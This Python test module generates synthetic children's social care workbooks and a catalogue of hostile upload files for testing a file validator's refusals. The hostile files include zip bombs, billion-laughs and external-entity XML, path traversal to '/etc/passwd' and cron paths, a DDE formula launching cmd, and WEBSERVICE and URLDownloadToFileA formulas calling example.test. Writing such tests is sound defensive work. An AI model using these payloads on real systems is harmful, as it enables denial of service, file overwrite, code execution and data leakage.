"""Files for tests: good ones of every kind, and bad ones of every family that people or attackers come up with."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import xlsxwriter

Rows = Sequence[Sequence[Any]]


def csv_of(path: Path, rows: Rows, *, delimiter: str = ",", encoding: str = "utf-8") -> Path:
    """A plain CSV file, each cell in quotation marks."""
    lines = (delimiter.join('"' + str(cell).replace('"', '""') + '"' for cell in row) for row in rows)
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode(encoding))
    return path


def xlsx_of(path: Path, sheets: Mapping[str, Rows]) -> Path:
    """A workbook; dates become real dates, everything else what it is."""
    book = xlsxwriter.Workbook(str(path), {"default_date_format": "dd/mm/yyyy", "strings_to_formulas": False})
    for name, rows in sheets.items():
        sheet = book.add_worksheet(name)
        for number, row in enumerate(rows):
            for place, cell in enumerate(row):
                if isinstance(cell, str):
                    sheet.write_string(number, place, cell)
                elif cell is not None:
                    sheet.write(number, place, cell)
    book.close()
    return path


# --- Annex A ---------------------------------------------------------------------------------------------------------

ANNEX_A_COMMON = ["Child Unique ID", "Forename", "Surname", "Sex", "Ethnicity", "Date of Birth", "Age of Child (Years)"]
NAMES = (
    ("Melli", "Majid"), ("Mary", "Telis"), ("Amara", "Okafor"), ("Łukasz", "Nowak"), ("Zainab", "Hussain"),
    ("Cian", "O’Brien"), ("Mei", "Chen"), ("Åsa", "Lind"), ("Tomos", "Pritchard"), ("Anaya", "Patel"),
)  # fmt: skip


def annex_a_workbook(
    path: Path, *, children: int = 12_000, teams: Sequence[str], workers: Sequence[str], as_of: date, seed: int = 7
) -> dict[str, int]:
    """A workbook with names, teams and workers, always the same for the same arguments. Returns rows by list.

    Every child is in list 6 with an open or closed episode; 4.8 rows a child in all.
    """
    book = xlsxwriter.Workbook(str(path), {"constant_memory": True, "default_date_format": "dd/mm/yyyy"})
    counts = {}
    for number, (columns, share, row_of) in LISTS.items():
        sheet = book.add_worksheet(f"List_{number}")
        allocated = ["Allocated Team", "Allocated Worker"] if number >= 3 else []
        sheet.write_row(0, 0, [*ANNEX_A_COMMON, *columns, *allocated])
        line = 0
        for child in range(children):
            rng = random.Random(f"{seed}/{child}")
            common, opened, closed = _invented(child, rng, as_of)
            if random.Random(f"{seed}/{child}/{number}").random() >= share:
                continue
            line += 1
            who = [teams[child % len(teams)], workers[child % len(workers)]] if allocated else []
            for place, cell in enumerate([*common, *row_of(rng, opened, closed), *who]):
                if cell is not None:
                    sheet.write(line, place, cell)
        counts[f"List_{number}"] = line
    book.close()
    return counts


def _invented(number: int, rng: random.Random, as_of: date) -> tuple[list[Any], date, date | None]:
    opened = as_of - timedelta(days=rng.randrange(30, 900))
    closed = as_of - timedelta(days=rng.randrange(1, 25)) if number % 5 == 0 else None
    born = opened - timedelta(days=rng.randrange(30, 16 * 365))
    given, family = NAMES[number % len(NAMES)]
    sex, ethnicity = rng.choice(("a) Male", "b) Female")), rng.choice(("a) WBRI", "k) APKN", "o) BAFR"))
    return [700_000 + number, given, family, sex, ethnicity, born, (as_of - born).days // 365], opened, closed


ListRow = Callable[[random.Random, date, date | None], list[Any]]
LISTS: dict[int, tuple[list[str], float, ListRow]] = {
    1: (["Date of Contact", "Contact Source"], 0.9, lambda r, o, c: [o, r.choice(("q) 6: Police", "e) 2A: Schools"))]),
    2: (
        ["Assessment start date", "Assessment completion date", "Organisation completing assessment"], 0.2,
        lambda r, o, c: [o, o + timedelta(days=20), "Early Help Service"],
    ),
    3: (
        ["Date of referral", "Referral Source", "Referral NFA?", "Number of Referrals in Last 12 Months"], 0.9,
        lambda r, o, c: [o, "q) 6: Police", "b) No", 0],
    ),
    4: (
        ["Does the Child have a Disability", "Continuous Assessment Start Date",
         "Child Seen During Continuous Assessment", "Continuous Assessment Date of Authorisation",
         "Was the child assessed as requiring LA children's social care support?"], 0.85,
        lambda r, o, c: ["b) No", o + timedelta(days=2), "a) Yes", o + timedelta(days=20), "a) Yes"],
    ),
    5: (
        ["Does the Child have a Disability", "Strategy discussion initiating Section 47 Enquiry Start Date",
         "Was an Initial Child Protection Conference deemed unnecessary?",
         "Date of Initial Child Protection Conference",
         "Did the Initial Child Protection Conference Result in a Child Protection Plan"], 0.45,
        lambda r, o, c: ["b) No", o + timedelta(days=3), "b) No", o + timedelta(days=4), "a) Yes"],
    ),
    6: (
        ["Does the Child have a Disability", "CIN Start Date", "Primary Need Code", "Date Child Was Last Seen",
         "CIN Closure Date", "Reason for Closure", "Case Status"], 1.0,
        lambda r, o, c: ["b) No", o, "N1 - Abuse or neglect", o + timedelta(days=5), c, "RC7" if c else None,
                         "e) Closed episode" if c else "c) Child in need plan"],
    ),
    7: (
        ["Does the Child have a Disability", "Child Protection Plan Start Date", "Initial Category of Abuse",
         "Latest Category of Abuse", "Date of latest review conference", "Child Protection Plan End Date",
         "Number of Previous Child Protection Plans"], 0.35,
        lambda r, o, c: ["b) No", o + timedelta(days=4), "a) Neglect", r.choice(("a) Neglect", "d) Emotional abuse")),
                         None, None, 0],
    ),
    8: (
        ["Does the Child have a Disability", "Date Started to be Looked After", "Child's Legal Status",
         "Date Ceased to be Looked After", "Reason Ceased to be Looked After"], 0.18,
        lambda r, o, c: ["b) No", o + timedelta(days=10), "C2: FCO", None, None],
    ),
}  # fmt: skip


# --- bad files -------------------------------------------------------------------------------------------------------

SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
)
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="%s"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ROWS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Child ID</t></is></c><c r="B1" t="inlineStr"><is><t>Opened</t></is></c>'
    '</row><row r="2"><c r="A2"><v>4471</v></c><c r="B2" t="inlineStr"><is><t>03/01/2016</t></is></c></row>'
)


def parts(rows: str = ROWS, *, kind: str = WORKBOOK_TYPE, links: str = "") -> dict[str, bytes]:
    """The parts of the smallest workbook, to be altered."""
    return {
        name: text.encode()
        for name, text in {
            "[Content_Types].xml": TYPES % kind,
            "_rels/.rels": RELS % f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/>',
            "xl/workbook.xml": (
                '<?xml version="1.0" encoding="UTF-8"?>'
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'xmlns:r="{REL}"><sheets><sheet name="Cases" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": RELS
            % (f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>{links}'),
            "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="UTF-8"?>' + SHEET % rows,
        }.items()
    }


def packed(found: Mapping[str, bytes], *, level: int = 6) -> bytes:
    """The parts as a zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in found.items():
            archive.writestr(name, content)
    return out.getvalue()


def cell(formula: str, value: str = "<v>1</v>") -> str:
    """A row with one formula."""
    return f'<row r="1"><c r="A1"><f>{formula}</f>{value}</c></row>'


def with_parts(**more: bytes) -> bytes:
    return packed({**parts(), **{name.replace("__", "/"): content for name, content in more.items()}})


def _declared(declaration: str) -> bytes:
    """A workbook whose sheet begins with this declaration."""
    found = parts()
    found["xl/worksheets/sheet1.xml"] = ('<?xml version="1.0" encoding="UTF-8"?>' + declaration + SHEET % ROWS).encode()
    return packed(found)


BILLION_LAUGHS = '<!DOCTYPE worksheet [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip


def _many_rows(size: int = 100_000_000) -> bytes:
    """A sheet that unpacks to ever more rows."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts().items():
            if "sheet1" not in name:
                archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write((SHEET % "%s").split("%s")[0].encode())
            block = b'<row r="1"><c r="A1"><v>1</v></c></row>' * 25_000
            for _ in range(size // len(block)):
                sheet.write(block)
    return out.getvalue()


def _blank_words() -> bytes:
    """A hundred million spaces, truly told."""
    return packed({**parts(), "xl/sharedStrings.xml": b" " * 100_000_000}, level=9)


def _lying_bomb() -> bytes:
    """A sheet that says it is small: its true size only shows while it inflates."""
    honest = packed({**parts(), "xl/worksheets/sheet1.xml": b"<a>" + b" " * 100_000_000 + b"</a>"}, level=1)
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    return honest.replace(struct.pack("<L", size), struct.pack("<L", 4000))


def _overlapping() -> bytes:
    """Many names for the same bytes."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = raw.compress(b" " * 30_000_000) + raw.flush()
    crc = zlib.crc32(b" " * 30_000_000)
    local = struct.pack("<4sHHHHHLLLHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(body), 30_000_000, 1, 0) + b"x" + body
    central = b"".join(
        struct.pack(
            "<4sHHHHHHLLLHHHHHLL", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(body), 30_000_000, 4, 0, 0, 0, 0, 0, 0
        )
        + f"p{number:03}".encode()
        for number in range(400)
    )
    end = struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, 400, 400, len(central), len(local), 0)
    return local + central + end


def _wide(columns: int) -> bytes:
    cells = "".join(f"<c><v>{n}</v></c>" for n in range(columns))
    return packed(parts(f'<row r="1">{cells}</row>'))


def _scattered() -> bytes:
    """Two cells, as far apart as they may be without being refused for their place: a table of half a billion cells."""
    return packed(parts('<row r="1"><c r="A1"><v>1</v></c></row><row r="500000"><c r="ALL500000"><v>1</v></c></row>'))


def _encrypted() -> bytes:
    names = "EncryptionInfo".encode("utf-16-le") + b"\0" * 8 + "EncryptedPackage".encode("utf-16-le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + names + b"\0" * 2000


def _flagged(bit: int) -> bytes:
    """A zip whose parts say that they are encrypted."""
    raw = bytearray(packed(parts()))
    for magic, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = raw.find(magic)
        while at >= 0:
            raw[at + place] |= bit
            at = raw.find(magic, at + 4)
    return bytes(raw)


def _other_method() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
    return out.getvalue()


def _ole() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def _external(kind: str, target: str) -> bytes:
    link = f'<Relationship Id="rId9" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
    return packed(parts(links=link))


def _broken_xml() -> bytes:
    found = parts()
    found["xl/worksheets/sheet1.xml"] = found["xl/worksheets/sheet1.xml"][:-30] + b"<row"
    return packed(found)


def _utf16_sheet() -> bytes:
    found = parts()
    found["xl/worksheets/sheet1.xml"] = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>' + SHEET % ROWS
    ).encode("utf-16")
    return packed(found)


def _damaged_inside() -> bytes:
    raw = bytearray(packed({**parts(), "xl/worksheets/sheet1.xml": random.Random(1).randbytes(20_000).hex().encode()}))
    at = raw.find(b"sheet1.xml") + 5_000
    raw[at : at + 50] = b"\xff" * 50
    return bytes(raw)


def _macro_workbook(kind: str) -> bytes:
    return packed({**parts(kind=f"application/vnd.ms-excel.{kind}.macroEnabled.main+xml")})


DDE = "cmd|'/c calc'!A0"
# family -> {name of the file: (content, code of the refusal)}
BadFiles = dict[str, dict[str, tuple[Callable[[], bytes], str]]]


def bad_files() -> BadFiles:
    """More than twenty families; each file is made when it is asked for."""
    good = packed(parts())
    return {
        "empty": {"empty.csv": (lambda: b"", "empty"), "blank.csv": (lambda: b"\r\n\r\n", "empty"),
                  "mark.csv": (lambda: b"\xef\xbb\xbf", "empty")},
        "documents": {"letter.pdf": (lambda: b"%PDF-1.7\n1 0 obj", "wrong-type"),
                      "letter.csv": (lambda: b"{\\rtf1 text}", "wrong-type"),
                      "letter.docx": (lambda: with_parts(word__document=b"<a/>"), "wrong-type"),
                      "talk.xlsx": (lambda: with_parts(ppt__presentation=b"<a/>"), "wrong-type")},
        "pictures": {"scan.png": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 99, "wrong-type"),
                     "scan.jpg": (lambda: b"\xff\xd8\xff\xe0" + b"\0" * 99, "wrong-type"),
                     "scan.csv": (lambda: b"GIF89a" + b"\0" * 99, "wrong-type")},
        "programs": {"a.xlsx": (lambda: b"MZ" + b"\0" * 99, "wrong-type"),
                     "b.csv": (lambda: b"\x7fELF" + b"\0" * 99, "wrong-type")},
        "packed": {"a.gz": (lambda: b"\x1f\x8b\x08" + b"\0" * 99, "wrong-type"),
                   "a.7z": (lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, "wrong-type"),
                   "a.zip": (lambda: packed({"cases.csv": b"Child ID\n1\n"}), "zip")},
        "databases": {"a.sqlite": (lambda: b"SQLite format 3\0" + b"\0" * 99, "wrong-type"),
                      "a.parquet": (lambda: b"PAR1" + b"\0" * 99, "wrong-type")},
        "web pages": {"export.xls": (lambda: b"<html><table><tr><td>1</td></tr></table>", "web-page"),
                      "export.csv": (lambda: b"\xef\xbb\xbf <!DOCTYPE html><html>", "web-page")},
        "xml": {"census.xml": (lambda: b'<?xml version="1.0"?><Message/>', "xml"),
                "laughs.csv": (lambda: BILLION_LAUGHS.encode(), "xml")},
        "old Excel": {"a.xls": (_ole, "old-excel"), "a.xlsx": (_ole, "old-excel")},
        "other spreadsheets": {
            "a.ods": (lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                      "content.xml": b"<a/>"}), "open-document"),
            "a.xlsb": (lambda: packed({**parts(), "xl/workbook.bin": b"\0"}), "binary-excel")},
        "passwords": {"a.xlsx": (_encrypted, "password"), "b.xlsx": (lambda: _flagged(1), "password")},
        "named wrongly": {"words.xlsx": (lambda: b"Child ID,Opened\n1,2\n", "not-excel"),
                          "words.xls": (lambda: b"Child ID\tOpened\n", "not-excel")},
        "not text": {"nul.csv": (lambda: b"Child ID\n44\x0071\n", "nul"),
                     "random.csv": (lambda: bytes(range(1, 256)) * 4, "not-text"),
                     "half.csv": (lambda: "Child".encode("utf-16")[:-1], "not-text"),
                     "bare-utf16.csv": (lambda: "Child ID".encode("utf-16-le"), "nul")},
        "truncated": {"a.xlsx": (lambda: good[: len(good) // 2], "truncated"),
                      "b.xlsx": (lambda: good[:-10], "truncated"), "c.xlsx": (lambda: good[:30], "truncated"),
                      "d.xlsx": (lambda: b"PK\3\4", "truncated")},
        "damaged": {"a.xlsx": (_damaged_inside, "damaged"), "b.xlsx": (_broken_xml, "damaged"),
                    "c.xlsx": (lambda: packed({n: c for n, c in parts().items() if "rels" not in n}), "damaged")},
        "macros": {"a.xlsm": (lambda: with_parts(xl__vbaProject=b"\0"), "macros"),
                   "b.xlsx": (lambda: _macro_workbook("sheet"), "macros"),
                   "c.xlsx": (lambda: with_parts(xl__macrosheets__sheet1=b"<a/>"), "macros"),
                   "d.xlsx": (lambda: _macro_workbook("template"), "macros"),
                   "e.xlsx": (lambda: with_parts(xl__activeX__activeX1=b"<a/>"), "macros")},
        "zip bombs": {"a.xlsx": (_many_rows, "rows"), "b.xlsx": (_lying_bomb, "bomb"), "c.xlsx": (_overlapping, "bomb"),
                      "d.xlsx": (lambda: packed({**parts(), **{f"xl/x{n}.xml": b"" for n in range(1500)}}), "bomb"),
                      "e.xlsx": (_blank_words, "bomb")},
        "zips in zips": {"a.xlsx": (lambda: with_parts(xl__media__image1=packed(parts())), "embedded"),
                         "b.xlsx": (lambda: with_parts(xl__embeddings__oleObject1=b"\xd0\xcf\x11\xe0"), "embedded")},
        "path names": {"a.xlsx": (lambda: packed({**parts(), "../../etc/cron.d/x": b"x"}), "paths"),
                       "b.xlsx": (lambda: packed({**parts(), "/etc/passwd": b"x"}), "paths"),
                       "c.xlsx": (lambda: packed({**parts(), "xl\\..\\x": b"x"}), "paths"),
                       "d.xlsx": (lambda: packed({**parts(), "XL/WORKBOOK.XML": b"x"}), "paths")},
        "odd zips": {"a.xlsx": (_other_method, "odd-zip")},
        "xml bombs": {"a.xlsx": (lambda: _declared(BILLION_LAUGHS), "entities"),
                      "b.xlsx": (lambda: _declared('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]>'), "entities"),
                      "c.xlsx": (lambda: _declared('<!DOCTYPE x SYSTEM "http://example.test/x.dtd">'), "entities"),
                      "d.xlsx": (_utf16_sheet, "entities"),
                      "e.xlsx": (lambda: with_parts(**{"xl__sharedStrings.xml": BILLION_LAUGHS.encode()}), "entities")},
        "too wide": {"a.csv": (lambda: b",".join(b"x" for _ in range(100_000)) + b"\n", "columns"),
                     "b.xlsx": (lambda: _wide(16_000), "columns"), "c.xlsx": (lambda: _wide(100_000), "columns"),
                     "d.xlsx": (lambda: packed(parts('<row r="1"><c r="XFD1"><v>1</v></c></row>')), "columns"),
                     "e.xlsx": (lambda: packed(parts('<row r="1"><c r="FFFFF1"><v>1</v></c></row>')), "columns")},
        "too long": {"a.csv": (lambda: b"x\n" * 500_001, "rows"),
                     "b.xlsx": (lambda: packed(parts('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')), "rows"),
                     "c.csv": (lambda: b'"' + b"x" * 200_000 + b'"\n', "long-cell"),
                     "d.xlsx": (_scattered, "too-much")},
        "quotation marks": {"a.csv": (lambda: b'a,b\n1,"left open\n2,3\n', "quotes"),
                            "b.csv": (lambda: b'a,b\n"x"y,2\n', "quotes")},
        "links": {"a.xlsx": (lambda: with_parts(**{"xl__externalLinks__externalLink1.xml": b"<a/>"}), "calls-out"),
                  "b.xlsx": (lambda: with_parts(**{"xl__connections.xml": b"<a/>"}), "calls-out"),
                  "c.xlsx": (lambda: with_parts(**{"xl__queryTables__queryTable1.xml": b"<a/>"}), "calls-out"),
                  "d.xlsx": (lambda: _external("externalLinkPath", "http://example.test/x.xlsx"), "calls-out"),
                  "e.xlsx": (lambda: _external("attachedTemplate", "//example.test/x.dotm"), "calls-out")},
        "formulas that call out": {
            f"{number}.xlsx": ((lambda formula=formula: packed(parts(cell(formula)))), "formula-calls-out")
            for number, formula in enumerate((
                'WEBSERVICE("http://example.test/"&amp;A2)', 'HYPERLINK("http://example.test/","x")', DDE,
                "'[1]Sheet1'!A1", "[Book1.xlsx]Sheet1!A1", 'RTD("x",,"y")', 'IMAGE("https://example.test/x.png")',
                '_xlfn.WEBSERVICE("x")', "'file:///C:/x.xls'#$Sheet1.A1", 'CALL("urlmon","URLDownloadToFileA","JJ")',
                'FILTERXML(A1,"//x")', "'\\\\example.test\\share\\[x.xlsx]S'!A1",
            ))},
    }  # fmt: skip


def written(folder: Path, name: str, content: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(content)
    return path


def bad_names() -> Iterable[tuple[str, str]]:
    """Family and name of every bad file."""
    return [(family, name) for family, files in bad_files().items() for name in files]
